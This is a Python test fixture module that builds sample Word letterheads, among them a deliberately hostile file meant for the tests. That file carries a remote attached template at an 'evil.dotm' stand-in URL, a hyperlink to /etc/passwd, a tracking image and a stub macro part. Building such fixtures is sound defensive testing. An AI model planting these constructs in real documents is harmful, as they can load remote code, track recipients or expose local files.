"""Letterheads as users have them, made for the tests: Word's own template, and a hostile one."""

from __future__ import annotations

import io
import re
import struct
import zlib

import docx
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Pt, RGBColor
from packages import unzipped, zipped

LOGO_COLOUR = (0x8A, 0x1C, 0x5B)


def png(width: int = 60, height: int = 30, colour: tuple[int, int, int] = LOGO_COLOUR) -> bytes:
    """A picture of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = (b"\0" + bytes(colour) * width) * height
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in parts)


def letterhead() -> bytes:
    """A4, Liberation Serif, a logo at the head of the first page, another head on the others."""
    word = docx.Document()
    section = word.sections[0]
    section.page_width, section.page_height = Pt(595.3), Pt(841.9)
    section.left_margin, section.right_margin = Pt(90), Pt(60)
    section.top_margin, section.bottom_margin = Pt(100), Pt(80)
    section.different_first_page_header_footer = True
    first = section.first_page_header.paragraphs[0]
    first.add_run().add_picture(io.BytesIO(png()), width=Pt(60))
    first.add_run(" Ministry of Letterheads")
    section.header.paragraphs[0].text = "Ministry of Letterheads, continued"
    section.footer.paragraphs[0].text = "12 Letter Street"
    section.first_page_footer.paragraphs[0].text = "12 Letter Street, first page"
    word.styles["Normal"].font.name = "Liberation Serif"
    word.styles["Heading 1"].font.color.rgb = RGBColor(*LOGO_COLOUR)
    word.styles["Heading 1"].font.name = "Liberation Serif"
    word.styles.add_style("Ministry Note", WD_STYLE_TYPE.PARAGRAPH)
    word.add_heading("Old text of the letterhead")
    word.add_paragraph("Old words.").add_run(" More.")
    word.add_comment(word.paragraphs[1].runs, "an old comment", author="A. Clerk")
    return _saved(word)


def foreign() -> bytes:
    """As a German Word would save it: its ids of styles are not the English ones."""
    renamed = {"Heading1": "berschrift1", "BodyText": "Textkrper", "ListBullet": "Aufzhlung"}
    parts = unzipped(letterhead())
    for old, new in renamed.items():
        for name in ("word/styles.xml", "word/numbering.xml", "word/document.xml"):
            parts[name] = parts[name].replace(f'"{old}"'.encode(), f'"{new}"'.encode())
    return zipped(parts)


def hostile() -> bytes:
    """With a template far away, a macro, changes, data and pictures linked from elsewhere."""
    parts = unzipped(letterhead())
    (header,) = [
        name for name, data in parts.items() if "word/header" in name and b"continued" in data
    ]
    inside = (
        '<w:ins w:id="1" w:author="x"><w:r><w:t>Inserted</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="x"><w:r><w:delText>Deleted</w:delText></w:r></w:del>'
        '<w:hyperlink r:id="rIdFile"><w:r><w:t>File</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdWeb"><w:r><w:t>Web</w:t></w:r></w:hyperlink>'
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata r:id="rIdFar"/></v:shape></w:pict></w:r></w:p>'
    )
    parts[header] = parts[header].replace(b"</w:p>", inside.encode(), 1)
    parts[header.replace("word/", "word/_rels/") + ".rels"] = _relations(
        ("rIdFile", "hyperlink", "file:///etc/passwd", True),
        ("rIdWeb", "hyperlink", "https://example.org/ministry", True),
        ("rIdFar", "image", "https://example.org/tracker.png", True),
    )
    settings = parts["word/settings.xml"]
    start = re.search(rb"<w:(zoom|view)\b", settings)
    assert start
    changes = b'<w:trackRevisions/><w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
    attached = b'<w:attachedTemplate r:id="rIdTemplate"/>'
    at = settings.index(b"/>", start.end()) + 2
    parts["word/settings.xml"] = settings[:at] + attached + changes + settings[at:]
    parts["word/_rels/settings.xml.rels"] = _relations(
        ("rIdTemplate", "attachedTemplate", "https://example.org/evil.dotm", True)
    )
    relations = parts["word/_rels/document.xml.rels"].decode()
    macro = (
        '<Relationship Id="rIdMacro" Target="vbaProject.bin" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    )
    parts["word/_rels/document.xml.rels"] = relations.replace(
        "</Relationships>", f"{macro}</Relationships>"
    ).encode()
    parts["word/vbaProject.bin"] = b"macro"
    types = parts["[Content_Types].xml"].decode()
    binary = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    parts["[Content_Types].xml"] = re.sub("(<Types[^>]*>)", rf"\1{binary}", types).encode()
    return zipped(parts)


def with_macros() -> bytes:
    """A .docm."""
    parts = unzipped(letterhead())
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    return zipped(parts)


def bare() -> bytes:
    """A file without running lines, lists or settings worth the name."""
    word = docx.Document()
    for name in ("List Bullet", "Body Text", "Quote"):
        word.styles[name].delete()
    word.add_paragraph("text")
    return _saved(word)


def _relations(*rows: tuple[str, str, str, bool]) -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    found = "".join(
        f'<Relationship Id="{own}" Type="{office}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if external else "/>")
        for own, kind, target, external in rows
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{found}</Relationships>'.encode()


def _saved(word: object) -> bytes:
    buffer = io.BytesIO()
    word.save(buffer)  # type: ignore[attr-defined]
    return buffer.getvalue()
